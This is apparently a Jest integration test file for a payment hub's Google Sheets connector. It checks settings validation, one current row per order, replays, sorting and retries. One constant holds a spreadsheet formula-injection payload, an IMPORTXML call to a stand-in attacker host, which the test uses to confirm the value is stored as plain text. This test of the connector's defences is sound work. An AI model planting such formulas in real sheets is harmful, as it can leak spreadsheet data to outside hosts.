import { generateKeyPairSync } from 'node:crypto';
import Redis from 'ioredis';
import request from 'supertest';
import { GoogleEmulator, startGoogleEmulator } from '../sandbox/google/google-emulator';
import { startVposEmulator, VposEmulator } from '../sandbox/vpos/vpos-emulator';
import { pay } from './support/delivery-fixtures';
import {
  adminHeaders,
  createTestDatabase,
  startTestHub,
  TEST_VPOS_TOKEN,
  TEST_WEBHOOK_SECRET,
  TestDatabase,
  testEnv,
  TestHub,
  waitFor,
} from './support/test-hub';

const EMAIL = 'hub-writer@project.iam.gserviceaccount.com';
const FORMULA = '=IMPORTXML("https://evil.example/x", "//a")';

describe('Google Sheets connector: one row per order, always current', () => {
  let db: TestDatabase;
  let hub: TestHub;
  let vpos: VposEmulator;
  let g: GoogleEmulator;
  let key: { client_email: string; private_key: string };
  let sheetId: string;
  let connId: string;

  beforeAll(async () => {
    db = await createTestDatabase();
    g = await startGoogleEmulator();
    vpos = await startVposEmulator({
      apiToken: TEST_VPOS_TOKEN,
      webhookSecret: TEST_WEBHOOK_SECRET,
      webhookRetryDelaysMs: [200, 500],
    });
    const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    g.registerServiceAccount({
      clientEmail: EMAIL,
      publicKey: publicKey.export({ type: 'spki', format: 'pem' }).toString(),
    });
    key = {
      client_email: EMAIL,
      private_key: privateKey.export({ type: 'pkcs8', format: 'pem' }).toString(),
    };
    hub = await startTestHub(
      db,
      testEnv(db, {
        VPOS_API_BASE_URL: vpos.url,
        GOOGLE_TOKEN_URL: g.endpoints.token,
        GOOGLE_SHEETS_API_URL: g.endpoints.sheetsRootUrl,
        SWEEP_INTERVAL_MS: '500',
      }),
    );
    vpos.setWebhookUrl(`${hub.url}/webhooks/vpos`);
    sheetId = g.createSpreadsheet({
      title: 'Payments',
      sheets: [{ title: 'Notes' }, { title: 'Orders', sheetId: 777 }],
      sharedWith: [EMAIL],
    }).spreadsheetId;
  });
  afterAll(async () => {
    await hub?.close();
    await vpos?.close();
    await g?.close();
    await db?.drop();
  });

  const add = (settings: Record<string, unknown>) =>
    request(hub.url)
      .post('/api/connections')
      .set(adminHeaders)
      .send({
        type: 'google-sheets',
        mode: 'service_account',
        displayName: 'Payments sheet',
        settings,
        credentials: { serviceAccountKey: key },
      });
  const rowsOf = () => g.readCells(sheetId, "'Orders'");
  const deliveries = (orderId: string) =>
    db.ds.query<{ status: string; external_url: string | null; attempts: number }[]>(
      `SELECT status, external_url, attempts FROM deliveries WHERE order_id = $1 ORDER BY seq`,
      [orderId],
    );
  const allDelivered = (orderId: string, count: number) =>
    waitFor(
      async () => {
        const rows = await deliveries(orderId);
        return rows.length >= count && rows.every((r) => r.status === 'delivered')
          ? rows
          : undefined;
      },
      30000,
      `${count} deliveries of ${orderId}`,
    );

  it('refuses bad settings and a mismatching header row at save, naming the field', async () => {
    const bad = await add({ spreadsheetId: sheetId, columns: ['orderId', 'colour'] });
    expect(bad.status).toBe(422);
    expect(bad.body.message).toContain('settings.columns');
    const zone = await add({ spreadsheetId: sheetId, timeZone: 'Mars/Olympus' });
    expect([zone.status, zone.body.message]).toEqual([
      422,
      expect.stringContaining('settings.timeZone'),
    ]);
    const tab = await add({ spreadsheetId: sheetId, sheetName: 'Missing' });
    expect([tab.status, tab.body.message]).toEqual([
      422,
      expect.stringContaining('settings.sheetName'),
    ]);

    const other = g.createSpreadsheet({
      title: 'Theirs',
      sheets: [{ title: 'Sheet1', header: ['Order', 'Colour'] }],
      sharedWith: [EMAIL],
    });
    const mismatch = await add({ spreadsheetId: other.spreadsheetId, language: 'en' });
    expect(mismatch.status).toBe(422);
    expect(mismatch.body.message).toMatch(
      /^settings\.headers\.status: column B .*"Colour", expected "Status"/,
    );
    expect(g.readCells(other.spreadsheetId)).toEqual([['Order', 'Colour']]);
  });

  it('an empty tab gets the header row; pending → paid → refunded leaves one current row', async () => {
    const res = await add({ spreadsheetId: sheetId, sheetName: 'Orders', language: 'en' });
    expect(res.status).toBe(201);
    connId = res.body.id;
    expect(rowsOf()[0]).toEqual([
      'Order',
      'Status',
      'Amount',
      'Currency',
      'Phone',
      'Customer',
      'Description',
      'Paid at',
      'VPOS payment',
      'Payment link',
      'Bitrix24 deal',
      'amoCRM lead',
      'Updated at',
    ]);

    const orderId = `ord-sheet-${Date.now()}`;
    const link = await request(hub.url)
      .post('/api/payment-links')
      .set(adminHeaders)
      .set('idempotency-key', `k-${orderId}`)
      .send({
        orderId,
        amountMinor: 1_250_050,
        currency: 'AMD',
        customer: { phone: '091 23-45-67', id: 'cust-7' },
        description: FORMULA,
        ttlSeconds: 3600,
      });
    expect(link.status).toBe(201);
    vpos.setStatus(link.body.providerPaymentId, 'pending');
    await allDelivered(orderId, 1);
    vpos.setStatus(link.body.providerPaymentId, 'paid');
    await allDelivered(orderId, 2);
    vpos.setStatus(link.body.providerPaymentId, 'refunded');
    const done = await allDelivered(orderId, 3);

    const rows = rowsOf().filter((r) => r[0] === orderId);
    expect(rows).toHaveLength(1);
    const rowNo = rowsOf().findIndex((r) => r[0] === orderId) + 1;
    const [row] = rows;
    expect(row.slice(0, 7)).toEqual(
      ['', 'refunded', 12500.5, 'AMD', '+37491234567', 'cust-7', FORMULA].map((v, i) =>
        i === 0 ? orderId : v,
      ),
    );
    expect(row[7]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+04:00$/);
    expect(row[9]).toBe(link.body.url);
    expect(done.map((d) => d.external_url)).toContain(
      `https://docs.google.com/spreadsheets/d/${sheetId}/edit#gid=777&range=A${rowNo}`,
    );
    // The description is text, not a formula: computed or as a formula it reads the same.
    const { access_token } = g.issueTokens({ email: EMAIL });
    for (const option of ['FORMULA', 'FORMATTED_VALUE']) {
      const cell = await fetch(
        `${g.url}/v4/spreadsheets/${sheetId}/values/${encodeURIComponent(`'Orders'!G${rowNo}`)}?valueRenderOption=${option}`,
        { headers: { authorization: `Bearer ${access_token}` } },
      );
      const body = (await cell.json()) as { values?: unknown[][] };
      expect([option, body.values]).toEqual([option, [[FORMULA]]]);
    }

    // A replay of the whole order adds no row and does not move the status back.
    const replay = await request(hub.url)
      .post(`/api/payments/${orderId}/replay?connection=${connId}`)
      .set(adminHeaders);
    expect(replay.status).toBeLessThan(300);
    await waitFor(
      async () =>
        (await deliveries(orderId)).every((d) => d.status === 'delivered') ? true : undefined,
      30000,
      'replayed deliveries',
    );
    const after = rowsOf().filter((r) => r[0] === orderId);
    expect(after).toHaveLength(1);
    expect(after[0][1]).toBe('refunded');
  }, 90000);

  it('a user sorting the sheet between two events does not break the upsert', async () => {
    const a = pay(vpos, { merchantOrderId: `zz-${Date.now()}`, metadata: {} });
    await allDelivered(a.merchantOrderId, 1);
    const b = pay(vpos, { merchantOrderId: `aa-${Date.now()}`, metadata: {} });
    await allDelivered(b.merchantOrderId, 1);
    const before = rowsOf().length;
    g.sortRows(sheetId, 'Orders', { column: 'A' });
    expect(rowsOf().findIndex((r) => r[0] === b.merchantOrderId)).toBeLessThan(
      rowsOf().findIndex((r) => r[0] === a.merchantOrderId),
    );
    vpos.setStatus(a.id, 'refunded');
    await allDelivered(a.merchantOrderId, 2);
    expect(rowsOf()).toHaveLength(before);
    const rowA = rowsOf().find((r) => r[0] === a.merchantOrderId)!;
    const rowB = rowsOf().find((r) => r[0] === b.merchantOrderId)!;
    expect([rowA[1], rowB[1]]).toEqual(['refunded', 'paid']);
  }, 60000);

  it('an append whose answer was lost is retried without a second row', async () => {
    g.injectFaults({ status: 503, method: 'POST', pathIncludes: ':append', when: 'after' });
    const s = pay(vpos, { metadata: {} });
    const [d] = await allDelivered(s.merchantOrderId, 1);
    expect(d.attempts).toBe(2);
    expect(rowsOf().filter((r) => r[0] === s.merchantOrderId)).toHaveLength(1);
  }, 60000);
  it("two sheets on one service account share the Google user's quota bucket", async () => {
    const second = g.createSpreadsheet({
      title: 'Second',
      sheets: [{ title: 'Orders' }],
      sharedWith: [EMAIL],
    });
    const res = await add({ spreadsheetId: second.spreadsheetId, language: 'en' });
    expect(res.status).toBe(201);
    const accounts = await db.ds.query<{ account: Record<string, unknown> }[]>(
      `SELECT account FROM connections WHERE type = 'google-sheets' AND deleted_at IS NULL`,
    );
    expect(accounts.map((a) => a.account.quotaKey)).toEqual([EMAIL, EMAIL]);
    const redis = new Redis(hub.config.redis.url);
    try {
      const keys = await redis.keys(`${hub.config.redis.prefix}:ratelimit:*`);
      // The checks of both sheets (and the deliveries above) took from one bucket.
      expect(keys).toEqual([`${hub.config.redis.prefix}:ratelimit:google-sheets:${EMAIL}`]);
    } finally {
      redis.disconnect();
    }
  });
});
